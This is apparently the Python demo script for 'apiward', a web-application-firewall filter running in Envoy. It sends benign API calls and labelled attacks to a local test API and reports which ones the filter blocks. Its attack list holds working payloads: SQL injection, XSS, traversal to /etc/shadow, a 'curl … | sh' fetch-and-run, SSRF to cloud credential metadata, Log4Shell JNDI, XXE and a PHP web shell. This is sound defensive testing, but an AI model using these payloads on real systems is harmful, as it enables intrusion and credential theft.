#!/usr/bin/env python3
"""`make demo`: realistic API calls and attacks through apiward in a real Envoy.

Starts the example API and two Envoys with the filter (monitor and enforce mode, in
parallel), sends every request through both, prints one table and a summary, and
stops everything it started. Ports are picked by the kernel, so it runs beside
`make run`.

Then two behaviour scenes through the same Envoys: one client bursting (throttled with 429 and
Retry-After) and one token walking user ids (BOLA: denied, then blocked). The demo plays several
clients from 127.0.0.1 through X-Forwarded-For (one trusted hop) and has no warm-up, so behaviour
acts at once.

Options: --mode monitor|enforce|both (default both), --module PATH, --json (raw rows).
"""

from __future__ import annotations

import argparse
import base64
import json
import statistics
import sys
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote, urlencode

sys.path.insert(0, str(Path(__file__).resolve().parent))

import events_demo  # noqa: E402
import harness  # noqa: E402

JSON = {"content-type": "application/json"}
FORM = {"content-type": "application/x-www-form-urlencoded"}
XML = {"content-type": "application/xml"}
JWT = (
    "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ1c2VyLTQyIiwiaWF0IjoxNzAwMDAwMDAwfQ."
    "c2lnbmF0dXJlLW5vdC1jaGVja2VkLWhlcmU"
)


@dataclass(frozen=True)
class DemoCall:
    label: str  # what a person reads in the table
    kind: str  # benign | the attack family we sent
    method: str
    path: str
    body: bytes | None = None
    headers: dict = field(default_factory=dict)


def _json(obj) -> bytes:
    return json.dumps(obj).encode()


TRAFFIC = [
    DemoCall("GET user", "benign", "GET", "/api/users/2", headers={"authorization": JWT}),
    DemoCall("GET user, field selection", "benign", "GET", "/api/users/3?fields=name,email"),
    DemoCall(
        "list orders, paged", "benign", "GET", "/api/orders?status=shipped&page=2&per_page=25"
    ),
    DemoCall(
        "create order (JSON)",
        "benign",
        "POST",
        "/api/orders",
        _json(
            {
                "user_id": 2,
                "sku": "BK-0042",
                "quantity": 2,
                "shipping": {"street": "12 Rue de la Paix", "city": "Paris", "zip": "75002"},
            }
        ),
        JSON,
    ),
    DemoCall("search by name", "benign", "GET", "/api/search?q=grace%20hopper"),
    DemoCall(
        "search: O'Reilly (apostrophe)", "benign", "GET", "/api/search?q=" + quote("O'Reilly")
    ),
    DemoCall(
        "comment (form)",
        "benign",
        "POST",
        "/api/comments",
        urlencode({"author": "Alan", "text": "Great book, 5/5 - would buy again!"}).encode(),
        FORM,
    ),
    DemoCall(
        "comment: 'select' & ';'",
        "benign",
        "POST",
        "/api/comments",
        urlencode({"author": "Grace", "text": "Please select the blue one; ring twice."}).encode(),
        FORM,
    ),
    DemoCall("download file", "benign", "GET", "/api/files/report.pdf"),
    DemoCall(
        "update order note (JSON)",
        "benign",
        "PUT",
        "/api/orders",
        _json({"id": 1001, "note": "Leave at the door after 5pm, thanks :)"}),
        JSON,
    ),
    DemoCall("health check", "benign", "GET", "/healthz"),
    DemoCall("search, unicode", "benign", "GET", "/api/search?q=" + quote("Zoë Müller-Łukasz")),
    # Attacks
    DemoCall(
        "SQLi UNION in query",
        "sqli",
        "GET",
        "/api/search?" + urlencode({"q": "1' UNION SELECT username, password FROM users--"}),
    ),
    DemoCall("SQLi boolean in path", "sqli", "GET", "/api/users/1%20OR%201=1--"),
    DemoCall(
        "XSS in JSON body",
        "xss",
        "POST",
        "/api/orders",
        _json({"user_id": 2, "sku": "BK-0042", "note": "<script>alert(document.cookie)</script>"}),
        JSON,
    ),
    DemoCall(
        "XSS img onerror in query",
        "xss",
        "GET",
        "/api/search?" + urlencode({"q": "<img src=x onerror=alert(1)>"}),
    ),
    DemoCall(
        "path traversal in path", "path_traversal", "GET", "/api/files/../../../../etc/passwd"
    ),
    DemoCall(
        "traversal, encoded", "path_traversal", "GET", "/api/files/..%2f..%2f..%2f..%2fetc%2fshadow"
    ),
    DemoCall(
        "command injection (form)",
        "cmdi",
        "POST",
        "/api/comments",
        urlencode({"author": "bob", "text": "nice; cat /etc/passwd"}).encode(),
        FORM,
    ),
    DemoCall(
        "command injection (JSON)",
        "cmdi",
        "POST",
        "/api/orders",
        _json({"sku": "BK-0042", "gift_wrap": "yes && curl http://198.51.100.7/x.sh | sh"}),
        JSON,
    ),
    DemoCall(
        "SSRF to cloud metadata",
        "ssrf",
        "POST",
        "/api/orders",
        _json(
            {
                "sku": "BK-0042",
                "callback_url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            }
        ),
        JSON,
    ),
    DemoCall(
        "Log4Shell JNDI in User-Agent",
        "jndi",
        "GET",
        "/api/users/1",
        headers={"user-agent": "${jndi:ldap://198.51.100.7:1389/Exploit}"},
    ),
    DemoCall(
        "NoSQL $ne login bypass",
        "nosqli",
        "POST",
        "/api/users",
        _json({"username": "admin", "password": {"$ne": None}}),
        JSON,
    ),
    DemoCall(
        "SSTI in query",
        "ssti",
        "GET",
        "/api/search?" + urlencode({"q": "{{7*7}}{{config.__class__.__init__.__globals__}}"}),
    ),
    DemoCall(
        "XXE external entity",
        "xxe",
        "POST",
        "/api/orders",
        b'<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<order><note>&xxe;</note></order>",
        XML,
    ),
    DemoCall(
        "CRLF header injection",
        "crlf",
        "GET",
        "/api/search?q=shoes%0d%0aSet-Cookie:%20session=attacker",
    ),
    DemoCall(
        "LDAP filter injection",
        "ldap",
        "GET",
        "/api/users?" + urlencode({"filter": "*)(uid=*))(|(uid=*"}),
    ),
    DemoCall(
        "SQLi in a GraphQL argument",
        "sqli",
        "POST",
        "/api/orders",
        _json({"query": 'query { orders(first: 20, customer: "x\' OR \'1\'=\'1") { id total } }'}),
        JSON,
    ),
    DemoCall(
        "SQLi in a base64 parameter",
        "sqli",
        "GET",
        "/api/search?data="
        + quote(base64.b64encode(b"' UNION SELECT username, password FROM users--").decode()),
    ),
    # A contact form whose e-mail field breaks its line into a Bcc header (a mail rule).
    DemoCall(
        "mail header injection",
        "crlf",
        "POST",
        "/api/comments",
        b"email=jane%40example.com%0D%0ABcc%3A%20list%40victims.example&message=hello",
        FORM,
    ),
    # Scanners' wordlists: files no API serves (restricted-resource probes, not the model).
    DemoCall("scanner: git metadata", "restricted_file", "GET", "/.git/config"),
    DemoCall("scanner: backup copy", "restricted_file", "GET", "/index.php.bak"),
    # A web shell uploaded as an avatar: decided by the file's name, whatever its bytes.
    DemoCall(
        "web shell upload",
        "unrestricted_upload",
        "POST",
        "/api/users",
        b"--demoBoundary\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"me.php\"\r\n"
        b"Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01"
        + bytes(range(32)) * 4
        + b"<?php system($_GET['c']); ?>\xff\xd9\r\n--demoBoundary--\r\n",
        {"content-type": "multipart/form-data; boundary=demoBoundary"},
    ),
]


@dataclass
class Outcome:
    status: int = 0
    decision: str = "-"  # allowed | annotated | flagged (monitor deny) | blocked | error
    cls: str = "-"
    score: str = "-"
    filter_us: int | None = None
    rtt_ms: float | None = None
    error: str = ""


# The demo's plugin configuration besides the mode: clients told apart by X-Forwarded-For, no
# warm-up and small limits so that the behaviour scenes act within a few dozen requests.
DEMO_CONFIG = {
    "client_identity": {"trusted_xff_hops": 1},
    "behaviour": {
        "warmup": {"seconds": 0, "requests": 0, "windows": 1},
        "signals": {
            "rate": {"min_requests": 30},
            "bola": {"min_distinct": 10},
            "structure": {"enabled": False},
        },
    },
}
BENIGN_CLIENT = "198.51.100.10"
ATTACKER = "203.0.113.66"


def send(envoy: harness.Envoy, call: DemoCall, client: str | None = None) -> Outcome:
    if client is None:
        client = BENIGN_CLIENT if call.kind == "benign" else ATTACKER
    try:
        resp = envoy.request(
            call.method,
            call.path,
            body=call.body,
            headers={**call.headers, "x-forwarded-for": client},
            timeout=10,
        )
    except Exception as exc:  # noqa: BLE001 (show any client failure in the table)
        return Outcome(decision="error", error=f"{type(exc).__name__}: {exc}")
    out = Outcome(status=resp.status, rtt_ms=resp.elapsed_ms)
    ann = resp.annotations()
    if resp.headers.get("content-type", "").startswith("application/problem+json"):
        out.decision = {401: "challenged", 429: "throttled"}.get(resp.status, "blocked")
        return out
    if not ann:
        out.decision = "no verdict"
        return out
    out.cls, out.score = ann.get("class", "-"), ann.get("score", "-")
    try:
        out.filter_us = int(ann.get("latency-us", ""))
    except ValueError:
        pass
    action = ann.get("action", "?")
    if action in ("allow", "annotate"):
        out.decision = {"allow": "allowed", "annotate": "annotated"}[action]
    elif ann.get("mode") == "monitor":
        out.decision = "flagged" if action == "deny" else f"flagged ({action})"
    else:
        out.decision = f"{action}?"
    return out


def behaviour_scenes(envoys: dict[str, harness.Envoy]) -> None:
    """One client bursting, one token walking user ids: what each mode did, request by request
    summarised."""
    scenes = [
        (
            "burst: 80 GETs from one client (limit 30/min, throttled from 2x)",
            [DemoCall("burst", "rate", "GET", "/api/users/2")] * 80,
            "203.0.113.77",
        ),
        (
            "BOLA: one token reads /api/users/1..60 (limit 10 ids/min)",
            [
                DemoCall(
                    "walk", "bola", "GET", f"/api/users/{i}", headers={"authorization": JWT}
                )
                for i in range(1, 61)
            ],
            "203.0.113.88",
        ),
    ]
    print("behaviour:")
    for title, calls, client in scenes:
        print(f"  {title}")
        for mode, envoy in envoys.items():
            outs = [send(envoy, c, client) for c in calls]
            runs: list[list] = []  # [decision, count] in order of first appearance
            for o in outs:
                if runs and runs[-1][0] == o.decision:
                    runs[-1][1] += 1
                else:
                    runs.append([o.decision, 1])
            print(f"    {mode:<8} " + " -> ".join(f"{n} {d}" for d, n in runs))
    print()


def short(call: DemoCall, width: int) -> str:
    text = f"{call.method} {call.path}"
    if call.body is not None:
        text += " +" + (
            "json"
            if call.headers is JSON
            else "form"
            if call.headers is FORM
            else "xml"
            if call.headers is XML
            else "body"
        )
    return clip(text, width)


def clip(text: str, width: int) -> str:
    text = text.replace("\n", " ")
    return text if len(text) <= width else text[: width - 1] + "…"


def percentile(values: list[float], p: float) -> float:
    values = sorted(values)
    if not values:
        return float("nan")
    k = max(0, min(len(values) - 1, round(p / 100 * (len(values) - 1))))
    return values[k]


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--mode", choices=("monitor", "enforce", "both"), default="both")
    ap.add_argument("--module", type=Path, default=harness.DEFAULT_MODULE)
    ap.add_argument("--json", action="store_true", help="print raw rows as JSON lines too")
    args = ap.parse_args()
    modes = ["monitor", "enforce"] if args.mode == "both" else [args.mode]

    if not args.module.is_file():
        print(f"wasm module not found: {args.module} (run `make build`)", file=sys.stderr)
        return 1
    workdir = Path(tempfile.mkdtemp(prefix="apiward-demo-", dir=_work_dir()))
    upstream = harness.Upstream(workdir=workdir / "upstream")
    envoys: dict[str, harness.Envoy] = {}
    started = time.monotonic()
    # Security events from the enforce Envoy go to a small NDJSON receiver on loopback.
    receiver = events_demo.EventReceiver().start()
    try:
        upstream.start()
        for mode in modes:
            config = {"mode": mode, **DEMO_CONFIG}
            clusters = {}
            if mode == "enforce":
                config["events"] = events_demo.events_config("demo_siem")
                config["routes"] = [*config.get("routes", []), events_demo.DLP_ROUTE]
                clusters = {"demo_siem": ("127.0.0.1", receiver.port)}
            envoys[mode] = harness.Envoy(
                plugin_config=config,
                upstream_port=upstream.port,
                module=args.module,
                workdir=workdir / f"envoy-{mode}",
                clusters=clusters,
            )
            envoys[mode].launch()
        print(
            f"starting Envoy ({', '.join(modes)} mode, --concurrency 2) in front of the example "
            f"API; V8 compiles the module ...",
            flush=True,
        )
        deadline = time.monotonic() + harness.DEFAULT_START_TIMEOUT
        for envoy in envoys.values():
            envoy._wait_admin(deadline)
            envoy._wait_listener(deadline)
        print(f"ready in {time.monotonic() - started:.1f} s\n", flush=True)

        rows = [
            (call, {mode: send(envoy, call) for mode, envoy in envoys.items()}) for call in TRAFFIC
        ]
        print_table(rows, modes)
        print_summary(rows, modes)
        behaviour_scenes(envoys)
        if "enforce" in envoys:
            leak = envoys["enforce"].request("GET", "/api/reports/payments")
            print(
                f"response inspection: GET /api/reports/payments -> {leak.status}, "
                f"x-apiward-dlp: {leak.headers.get('x-apiward-dlp')}, first card now "
                f"{json.loads(leak.body)['payments'][0]['card']}\n"
            )
            events_demo.show(receiver)
        if args.json:
            for call, outs in rows:
                print(
                    json.dumps(
                        {
                            "request": short(call, 200),
                            "kind": call.kind,
                            **{m: o.__dict__ for m, o in outs.items()},
                        }
                    )
                )
        return 0
    except harness.HarnessError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 1
    except KeyboardInterrupt:
        return 130
    finally:
        for envoy in envoys.values():
            envoy.stop()
        upstream.stop()
        receiver.stop()


def _work_dir() -> str:
    d = harness.REPO / ".work"
    d.mkdir(exist_ok=True)
    return str(d)


def print_table(rows, modes: list[str]) -> None:
    width = 34
    head = f"{'#':>2}  {'what was sent':<30}  {'request':<{width}}"
    for mode in modes:
        head += f"  {mode + ': status/decision':<{len(mode) + 19}}"
    head += f"  {'class':<15} {'score':>5}  {'filter µs':>9}  {'rtt ms':>6}"
    print(head)
    print("-" * len(head))
    for i, (call, outs) in enumerate(rows, 1):
        line = f"{i:>2}  {clip(call.label, 30):<30}  {short(call, width):<{width}}"
        for mode in modes:
            o = outs[mode]
            cell = f"{o.status or '---'} {o.decision}"
            line += f"  {cell:<{len(mode) + 19}}"
        # Class/score/latency come from a run that passed upstream (monitor, if run).
        src = next((outs[m] for m in modes if outs[m].cls != "-"), outs[modes[0]])
        rtt = outs[modes[-1]].rtt_ms
        line += (
            f"  {src.cls:<15} {src.score:>5}  "
            f"{src.filter_us if src.filter_us is not None else '-':>9}  "
            f"{f'{rtt:.1f}' if rtt is not None else '-':>6}"
        )
        print(line)
        for mode in modes:
            if outs[mode].error:
                print(f"    {mode}: {outs[mode].error}")
    print()


def stopped(decision: str) -> bool:
    """Blocked or throttled (enforce), or flagged as such (monitor)."""
    return decision in ("blocked", "throttled", "challenged") or decision.startswith("flagged")


def print_summary(rows, modes: list[str]) -> None:
    attacks = [(c, o) for c, o in rows if c.kind != "benign"]
    benign = [(c, o) for c, o in rows if c.kind == "benign"]
    print(f"summary: {len(rows)} requests ({len(benign)} benign, {len(attacks)} attacks)")
    for mode in modes:
        counts: dict[str, int] = {}
        for _, outs in rows:
            counts[outs[mode].decision] = counts.get(outs[mode].decision, 0) + 1
        caught = sum(stopped(o[mode].decision) for _, o in attacks)
        false_pos = sum(stopped(o[mode].decision) for _, o in benign)
        # Blocked requests carry no class (the deny reply hides it): count where it is known.
        classified = [(c, o) for c, o in attacks if o[mode].cls != "-"]
        right_class = sum(o[mode].cls == c.kind for c, o in classified)
        line = (
            f"  {mode:<8} "
            + ", ".join(f"{n} {d}" for d, n in sorted(counts.items()))
            + f" | attacks caught {caught}/{len(attacks)}, benign flagged {false_pos}/"
            f"{len(benign)}"
        )
        if mode == "monitor" and classified:
            line += f", attack class right {right_class}/{len(classified)}"
        print(line)
    lat = [o.filter_us for _, outs in rows for o in outs.values() if o.filter_us is not None]
    rtt = [o.rtt_ms for _, outs in rows for o in outs.values() if o.rtt_ms is not None]
    if lat:
        print(
            f"  filter time (x-apiward-latency-us): mean {statistics.mean(lat):.0f} µs, "
            f"p50 {percentile(lat, 50):.0f} µs, p95 {percentile(lat, 95):.0f} µs, "
            f"max {max(lat)} µs  (n={len(lat)})"
        )
    if rtt:
        print(
            f"  round trip through Envoy (loopback, new connection each): mean "
            f"{statistics.mean(rtt):.2f} ms, p50 {percentile(rtt, 50):.2f} ms"
        )


if __name__ == "__main__":
    sys.exit(main())
